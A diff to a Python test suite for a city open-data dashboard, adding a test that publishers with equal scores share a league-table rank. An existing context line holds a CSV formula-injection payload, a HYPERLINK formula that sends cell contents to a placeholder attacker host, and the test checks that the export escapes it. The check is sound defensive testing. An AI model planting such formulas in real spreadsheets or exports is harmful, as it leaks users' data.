@@ -712,3 +712,34 @@ def test_a_dashboard_csv_keeps_a_name_from_running_as_a_spreadsheet_formula(app)
     rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
     assert rows == [["name", "change"], ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "-3"],
                     ["'-1 Department", "2.5"], ["Transport", ""]]
+
+
+def test_departments_with_the_same_figures_share_a_rank(client, catalog, runtime):
+    """The statistics bureau (84.0 points, 3.0 stars) and an archives bureau with the same figures were ranked 1 and
+    2, by the alphabet of their slugs: an official reading the table told the mayor one did better."""
+    stats = next(r for r in _json(client, "/dashboard/league.json")["rows"] if r["publisher"] == "jh-stats")
+    own = _own(runtime, "jh-stats")
+    model = next(a for slug, a in _latest(runtime).items() if slug in own)
+    with runtime.sessionmaker() as session:
+        rec = new_record(slug="archives-catalogue", title={"zh": "档案目录", "en": "Archives catalogue"},
+                         license="CC-BY-4.0", publisher={"slug": "jh-archives", "name": {"zh": "京海市档案局",
+                                                                                         "en": "Jinghai Archives"}},
+                         distributions=[new_distribution(format="CSV", download_url="http://127.0.0.1:9/a.csv")])
+        ds, _ = save_record(session, rec)
+        session.flush()
+        session.add(Assessment(**{c: getattr(model, c) for c in (
+            "rule_version", "metadata_points", "metadata_rating", "subscores", "data", "distributions", "findings")},
+            dataset_id=ds.id, assessed_at=NOW, stars=int(stats["average_stars"]), score=int(stats["average_score"])))
+        session.commit()
+    rows = _json(client, "/dashboard/league.json")["rows"]
+    ranks = {r["publisher"]: r["rank"] for r in rows}
+    assert stats["average_score"] == int(stats["average_score"]) and stats["average_stars"] == 3.0
+    assert ranks["jh-archives"] == ranks["jh-stats"] == stats["rank"]
+    below = [r["rank"] for r in rows if r["rank"] is not None and r["publisher"] not in ("jh-archives", "jh-stats")]
+    assert min(below) == stats["rank"] + 2
+    html = _html(client, "/dashboard?lang=en")
+    league = Tables(html).tables["league-table"]
+    assert {a["data-publisher"]: c[0][1] for a, c in league if a["data-publisher"] in ranks}["jh-archives"] == \
+        str(stats["rank"])
+    assert [r["rank"] for r in _csv(client, "/dashboard/league.csv") if r["publisher"] in ("jh-archives", "jh-stats")] \
+        == [str(stats["rank"])] * 2
